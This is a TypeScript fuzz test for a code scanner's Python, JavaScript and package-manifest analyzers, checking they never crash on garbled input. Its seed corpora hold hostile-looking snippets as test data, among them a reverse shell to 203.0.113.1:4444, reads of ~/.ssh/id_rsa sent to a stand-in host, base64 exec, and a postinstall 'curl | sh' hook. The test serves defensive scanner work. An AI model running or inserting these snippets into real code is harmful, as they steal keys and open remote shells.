// Fuzz: 300 garbled inputs per analyzer (Python, JavaScript, manifests) must never throw, and every
// fact they emit must be well formed (a known kind, a line within the input).

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { javascriptAnalyzer } from '../../../src/scan/analyzers/javascript.ts';
import { manifestAnalyzer } from '../../../src/scan/analyzers/manifest.ts';
import { pythonAnalyzer } from '../../../src/scan/analyzers/python.ts';
import type { Analyzer } from '../../../src/scan/types.ts';
import { collect, fuzzInputs } from './python-js-collect.ts';

const pythonCorpus = [
  "import os, base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
  "s = socket.socket()\ns.connect(('203.0.113.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
  "def f(x):\n    return {'e': dict(os.environ), 'x': f'{x}'}\nrequests.post('https://a.example', json=f(1))\n",
  "class P(install):\n    def run(self): subprocess.run(['curl', u], shell=True)\nsetup(cmdclass={'install': P})\n",
];
const jsCorpus = [
  "const fs = require('fs');\nfetch('https://a.example', { method: 'POST', body: fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`) });\n",
  "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\nString.fromCharCode(104,116,116,112);\n",
  "enum E { A } @d class C<T> { x!: T }\nconst { A_KEY, ...rest } = process.env;\nc.connect(1, 'h', () => sh.stdout.pipe(c));\n",
  "export default () => <div>{fetch(u).then(r => r.text()).then(eval)}</div>;\n",
];
const manifestCorpus = [
  '{"name":"x","dependencies":{"a":"^1.0.0","b":"git+https://git.example/b.git"},"scripts":{"postinstall":"curl https://x.example | sh"}}',
  'requests==2.31.0 --hash=sha256:abc\n--extra-index-url http://203.0.113.5/simple\nfoo>=1\ngit+https://git.example/x.git#egg=x\n',
  '[project]\ndependencies = [\n  "requests>=2",\n  "x @ https://x.example/x.whl",\n]\n[tool.poetry.dependencies]\nfoo = { version = "1.0", git = "https://g.example" }\n',
  'module m\nrequire (\n  github.com/a/b v1.2.3\n)\nreplace github.com/a/b => ../b\n',
];

const targets: [string, Analyzer, string[], string][] = [
  ['python', pythonAnalyzer, pythonCorpus, 'x.py'],
  ['javascript', javascriptAnalyzer, jsCorpus, 'x.ts'],
  ['manifest package.json', manifestAnalyzer, manifestCorpus, 'package.json'],
  ['manifest requirements', manifestAnalyzer, manifestCorpus, 'requirements.txt'],
  ['manifest pyproject', manifestAnalyzer, manifestCorpus, 'pyproject.toml'],
  ['manifest go.mod', manifestAnalyzer, manifestCorpus, 'go.mod'],
];

describe('python/javascript/manifest analyzers never throw on garbled input', () => {
  targets.forEach(([name, analyzer, corpus, file], index) => {
    it(`${name}: 300 inputs`, async () => {
      const inputs = fuzzInputs(corpus, 300, 4242 + index);
      assert.equal(inputs.length, 300);
      for (const text of inputs) {
        const got = await collect(analyzer, text, file);
        const lines = text.split('\n').length;
        for (const fact of got.facts) {
          assert.ok(Number.isInteger(fact.line) && fact.line >= 1 && fact.line <= lines, `bad line ${fact.line} in ${JSON.stringify(fact)}`);
        }
      }
    });
  });
});
